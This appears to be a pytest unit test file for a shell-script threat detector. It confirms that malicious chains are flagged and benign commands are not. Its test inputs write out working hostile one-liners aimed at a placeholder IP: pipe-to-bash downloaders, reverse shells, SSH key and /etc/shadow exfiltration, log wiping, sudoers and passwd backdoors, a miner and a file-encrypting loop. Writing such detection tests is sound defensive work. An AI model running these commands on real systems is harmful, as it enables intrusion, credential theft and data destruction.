"""What shell scripts do, and what ordinary ones do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.triage.facts.reading import acts, chains, told
from vedette.triage.fact import Act
from vedette.triage.kinds import Kind

SH = Kind.SHELL
H = "198.51.100.7"
PIECES = [
    *"|&$(){}<>`'\"\n;=\0é", "curl x ", "sh ", "$(", "for f in ", " do ", "done\n", "f() {", "<<E\n", "E\n",
    "${x#", "find . -exec ", "exec 5<>/dev/tcp/a/1\n", "eval ", "if [ -f a ]", " then ", "fi\n", "xargs ",
]  # fmt: skip
RUNS_DOWNLOAD = (Act.RUNS_CODE, Act.DOWNLOADS)
STARTS_DOWNLOAD = (Act.RUNS_COMMAND, Act.DOWNLOADS)
RECEIVED = (Act.RUNS_CODE, Act.READS_INPUT)
STOLEN = (Act.SENDS, Act.READS_SECRET)


@pytest.mark.parametrize(
    "text",
    [
        f"curl -s http://{H}/a | bash",
        f"U=http://{H}/p\n(curl -fsSL $U || wget -qO- $U) | sudo bash",
        f"bash <(curl -s http://{H}/a)",
        f'eval "$(wget -qO- http://{H}/a)"',
        f'sh -c "$(curl -fsSL http://{H}/a)"',
        f'x=$(curl -s http://{H}/a)\necho "$x" | sh',
        f"cd /tmp; curl -O http://{H}/b.sh; chmod 777 b.sh; sh b.sh",
        f"echo http://{H}/a | xargs curl -s | bash",
        f"get() {{ wget -qO- $1; }}\nget http://{H}/a > /dev/shm/k\n. /dev/shm/k",
        f"sudo bash -c 'curl -s http://{H}/b | sh'",
        f"(crontab -l; echo '* * * * * curl -s http://{H}/a | sh') | crontab -",
        f"printf 'ExecStart=/bin/sh -c \"curl http://{H}/a | sh\"' > ~/.config/systemd/user/a.service",
    ],
)
def test_what_is_fetched_is_followed_to_where_it_runs(text: str) -> None:
    assert RUNS_DOWNLOAD in chains(text, SH)


def test_a_program_is_followed_from_its_download_to_its_start() -> None:
    text = f"for a in x86 arm; do wget -q http://{H}/$a -O .x; chmod +x .x; ./.x; done"
    assert STARTS_DOWNLOAD in chains(text, SH)
    assert STARTS_DOWNLOAD not in chains(
        f"wget http://{H}/t -O /usr/local/bin/t\ntar xf t.tar\nt --version", SH
    )


@pytest.mark.parametrize(
    "text",
    [
        f"bash -i >& /dev/tcp/{H}/4444 0>&1",
        f"0<&196;exec 196<>/dev/tcp/{H}/4444; sh <&196 >&196 2>&196",
        f"rm f;mkfifo f;cat f|/bin/sh -i 2>&1|nc {H} 4444 >f",
        f"telnet {H} 4444 | /bin/bash | telnet {H} 4445",
        f"while true; do nc {H} 4444 | sh; done",
        f'ruby -rsocket -e\'f=TCPSocket.open("{H}",4444).to_i;exec sprintf("sh -i <&%d",f)\'',
    ],
)
def test_a_shell_on_a_connection_is_seen(text: str) -> None:
    assert RECEIVED in chains(text, SH)


def test_commands_read_from_a_connection_are_seen() -> None:
    text = f"exec 5<>/dev/tcp/{H}/44\ncat <&5 | while read line; do $line 2>&5 >&5; done"
    assert (Act.RUNS_COMMAND, Act.READS_INPUT) in chains(text, SH)


@pytest.mark.parametrize(
    "text",
    [
        f"cat ~/.ssh/id_rsa | curl --data-binary @- http://{H}/u",
        f"tar czf /tmp/x.tgz ~/.ssh ~/.aws; curl -T /tmp/x.tgz http://{H}/",
        f"tar cz ~/.ssh | nc {H} 9000",
        f'D=$(cat /etc/shadow | base64 -w0); curl "http://{H}/?d=$D"',
        f"find / -name id_rsa -exec curl -F f=@/root/.ssh/id_rsa http://{H}/ \\;",
        f"for f in ~/.ssh/id_rsa; do curl --upload-file $f http://{H}/; done",
        f"cat ~/.bash_history > /dev/tcp/{H}/99",
        f"wget --post-file=/etc/shadow http://{H}/",
    ],
)
def test_secrets_are_followed_to_where_they_are_sent(text: str) -> None:
    assert STOLEN in chains(text, SH)


def test_a_token_in_a_header_is_not_sent_away() -> None:
    text = 'T=$(cat ~/.aws/credentials)\ncurl -d a=1 -H "Authorization: Bearer $T" https://api.example/'
    assert Act.READS_SECRET in acts(text, SH)
    assert STOLEN not in chains(text, SH)


@pytest.mark.parametrize(
    ("text", "act"),
    [
        ("setenforce 0", Act.DISABLES_DEFENCE),
        ("systemctl disable --now auditd", Act.DISABLES_DEFENCE),
        ("iptables -F", Act.DISABLES_DEFENCE),
        ("unset HISTFILE", Act.CLEARS_TRACES),
        ("cat /dev/null > ~/.bash_history", Act.CLEARS_TRACES),
        ("rm -rf /var/log/*", Act.CLEARS_TRACES),
        ("cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b", Act.ESCALATES),
        ("echo 'www ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", Act.ESCALATES),
        ("docker run -v /:/mnt -it alpine chroot /mnt sh", Act.ESCALATES),
        ("echo 'x::0:0::/root:/bin/sh' >> /etc/passwd", Act.ADDS_ACCOUNT),
        ("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", Act.PERSISTS),
        ("echo /lib/k.so > /etc/ld.so.preload", Act.INJECTS),
        ("./kthreadd -o stratum+tcp://pool.invalid:443 -u x", Act.MINES),
        ("[ -f /.dockerenv ] && exit", Act.EVADES),
    ],
)
def test_what_harms_is_told(text: str, act: Act) -> None:
    assert act in acts(text, SH)


@pytest.mark.parametrize(
    ("text", "act"),
    [
        ("iptables -F\niptables -A INPUT -i lo -j ACCEPT", Act.DISABLES_DEFENCE),
        ("systemctl restart nginx", Act.DISABLES_DEFENCE),
        ("rm -f /var/log/app/debug.log", Act.CLEARS_TRACES),
        ("if [ ! -f /var/log/wtmp ]; then : > /var/log/wtmp; fi", Act.CLEARS_TRACES),
        ("chmod 4755 /usr/bin/mount", Act.ESCALATES),
        ("docker run --rm -v $PWD:/src app make", Act.ESCALATES),
        ("crontab -l > cron.bak", Act.PERSISTS),
        ("pg_dump app | gzip | openssl enc -aes-256-cbc -out b.enc\nrm old.enc", Act.ENCRYPTS_FILES),
        ("nc -z db 5432", Act.CONNECTS),
    ],
)
def test_what_does_not_harm_is_not_told(text: str, act: Act) -> None:
    assert act not in acts(text, SH)


def test_files_that_are_found_encrypted_and_removed_are_told() -> None:
    loop = 'find /home -type f | while read f; do openssl enc -aes-256-cbc -in "$f" -out "$f.e"; {}; done'
    assert Act.ENCRYPTS_FILES in acts(loop.format('rm "$f"'), SH)
    assert Act.ENCRYPTS_FILES not in acts(loop.format("true"), SH)


def test_only_whole_trees_are_called_so() -> None:
    def deleted(text: str) -> set[str]:
        return {one.target for one in told(text, SH) if one.act is Act.DELETES_FILES}

    assert "/" in deleted("rm -rf /*")
    assert "/" in deleted("cd / && rm -rf *")
    assert deleted('T=\nrm -rf "$T/"') == {"$T"}
    assert deleted("cd build && rm -rf *") == {"./*"}


def test_the_place_is_where_it_stands() -> None:
    (fact,) = [one for one in told("a=1\n  curl -O http://198.51.100.7/é\n", SH) if one.act is Act.DOWNLOADS]
    assert (fact.place.line, fact.place.column) == (2, 3)  # type: ignore[union-attr]
    assert fact.quote == "curl -O http://198.51.100.7/é"


@given(st.lists(st.sampled_from(PIECES), max_size=25))
def test_whatever_stands_there_it_ends(pieces: list[str]) -> None:
    for fact in told("".join(pieces), SH):
        assert len(fact.quote) <= 200
